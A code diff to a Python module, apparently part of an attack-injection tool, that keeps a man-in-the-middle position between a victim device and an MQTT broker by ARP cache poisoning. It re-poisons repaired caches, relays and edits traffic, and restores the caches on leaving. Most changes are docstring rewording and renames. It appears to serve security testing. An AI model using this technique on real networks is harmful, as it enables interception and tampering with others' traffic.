@@ -1,4 +1,4 @@
-"""Between one unit and the broker: getting on the path, relaying, leaving."""
+"""The path between one unit and the broker: getting on it, relaying, leaving it."""
 
 from collections.abc import Callable
 
@@ -16,22 +16,22 @@ from coldaisle_injector.wire import Wire
 __all__ = ["PATIENCE_NS", "OffPathError", "Path"]
 
 PATIENCE_NS = 15_000_000_000
-"""A claim, a copy or a FIN nobody answers for so long ends the run, ns."""
+"""Longest wall time to wait for the answer to a claim, a copy or a FIN, in ns; after it the run ends."""
 
 
 class Path:
-    """The path between a unit and the broker, and what the attacker does on it.
+    """The path between a unit and the broker while the attacker is on it.
 
     Args:
         unit: the victim.
         wire: the attacker's socket.
-        notes: its journal; names the episode that holds the path, also after the end of it while connections
-            need translation.
-        slot_of: the plan's slot at a virtual time, ns.
-        elsewhere: hosts that a frame can be sent to instead of the broker, such that the broker's wire does not carry it.
+        notes: the attacker's journal; it has the id of the episode on the path, also after its end while connections need
+            translation.
+        slot_of: returns the plan's slot at a virtual time in ns.
+        elsewhere: hosts to which a frame can be sent instead of the broker, so that the broker's link does not carry it.
 
     Attributes:
-        spoofer: says what is due between readings.
+        spoofer: sends the frames that are due between readings.
     """
 
     def __init__(
@@ -59,17 +59,17 @@ class Path:
         self.notes.start(episode)
         self._editor.attack, self._editor.acting = attack, False
         self._leaving = self._confirmed = self._up = self._down = False
-        if not self._caches.taken:
-            self._connections.clear()  # kept until now for stragglers
+        if not self._caches.poisoned:
+            self._connections.clear()  # kept until now for late frames
         self._since_ns = self._times.wall_ns()
         self.notes.phase("approach")
-        self._caches.take()
+        self._caches.poison()
 
     def begin(self) -> None:
-        """Start to act.
+        """Begin to act.
 
         Raises:
-            OffPathError: if no traffic passed in both directions since the approach.
+            OffPathError: if traffic has not passed in both directions since the approach.
         """
         if not self._confirmed:
             raise self.spoofer.off_path("saw no traffic pass")
@@ -77,27 +77,31 @@ class Path:
         self.notes.phase("begin")
 
     def leave(self) -> None:
-        """Stop acting; restore the caches as soon as no connection needs the attacker any more."""
+        """Stop acting, and restore the caches as soon as no connection needs the attacker's translation."""
         self._editor.acting, self._leaving = False, True
         self.notes.phase("end")
         self._restore_if_free()
 
     def _restore_if_free(self) -> None:
         """Restore both caches unless a connection would break."""
-        if self.taken and self._leaving and not any(conn.translated for conn in self._connections.values()):
+        if (
+            self.poisoned
+            and self._leaving
+            and not any(conn.translated for conn in self._connections.values())
+        ):
             self._leaving = False
             self._caches.restore()
             self.notes.phase("off_path")
 
     @property
-    def taken(self) -> bool:
+    def poisoned(self) -> bool:
         """Whether the caches of unit and broker are poisoned."""
-        return self._caches.taken
+        return self._caches.poisoned
 
     @property
     def settled(self) -> bool:
-        """Whether everything sent has been answered and no connection that runs through here is half closed."""
-        closing = self.taken and any(conn.closing for conn in self._connections.values())
+        """Whether everything that was sent has been answered and no connection through the attacker is half closed."""
+        closing = self.poisoned and any(conn.closing for conn in self._connections.values())
         return self._answered and not closing
 
     @property
@@ -105,15 +109,15 @@ class Path:
         return not self._caches.unanswered and not any(conn.waits for conn in self._connections.values())
 
     def insist(self) -> None:
-        """Repeat claims nobody answered, and those that a victim unlearned.
+        """Repeat claims that were not answered, and claim again where a cache was repaired.
 
-        A victim's own broadcast cures the other side; overtaken by the claim that follows it, it does so for good. Words
-        that stay without an acknowledgement give that away.
+        A victim's own ARP broadcast repairs its peer's cache. If the next claim overtakes that broadcast, the repair sticks; data that
+        stays unacknowledged reveals this.
 
         Raises:
             OffPathError: if there is still no answer after :data:`PATIENCE_NS`.
         """
-        if self.taken and self._unheard:
+        if self.poisoned and self._unacknowledged:
             self._caches.renew()
         if self.settled:
             self._since_ns = self._times.wall_ns()
@@ -123,32 +127,32 @@ class Path:
         self._caches.insist()
 
     @property
-    def _unheard(self) -> bool:
-        """Whether words passed on stay without an acknowledgement, but not for so long that nobody waits for it any more."""
+    def _unacknowledged(self) -> bool:
+        """Whether data that was passed on lacks its acknowledgement, though not for longer than :data:`PATIENCE_NS`."""
         wall_ns = self._times.wall_ns()
-        silences = (conn.unheard_ns(wall_ns) for conn in self._connections.values())
+        silences = (conn.unacknowledged_ns(wall_ns) for conn in self._connections.values())
         return any(LOCK_NS < silence < PATIENCE_NS for silence in silences)
 
     # -- frames that arrive -------------------------------------------------------------------------------------
 
     def on_arp(self, arp: Arp, frame: bytes) -> None:
-        """Take an answer to a claim, or answer a question about the other side."""
+        """Handle an answer to a claim, or answer a question about the other side."""
         self._caches.on_arp(arp, frame)
 
     def on_other(self, frame: bytes, *, upward: bool) -> None:
-        """Pass on what is not MQTT."""
+        """Pass on a frame that is not MQTT."""
         self._relay.on_other(frame, upward=upward)
 
     def on_segment(self, segment: Segment) -> None:
-        """Pass a segment on, edited where the attack says so."""
+        """Pass on a segment with the edits of the attack."""
         editing = not (self._leaving and self._answered)
         if self._relay.on_segment(segment, editing=editing) and editing:
             self._confirm(upward=segment.source == self.unit.ip)
         self._restore_if_free()
 
     def _confirm(self, *, upward: bool) -> None:
-        """Note that the attacker is on the path once both sides' words passed."""
+        """Journal that the attacker is on the path once data of both sides has passed."""
         self._up, self._down = self._up or upward, self._down or not upward
-        if self._up and self._down and not self._confirmed and self.taken and not self._leaving:
+        if self._up and self._down and not self._confirmed and self.poisoned and not self._leaving:
             self._confirmed = True
             self.notes.phase("on_path")
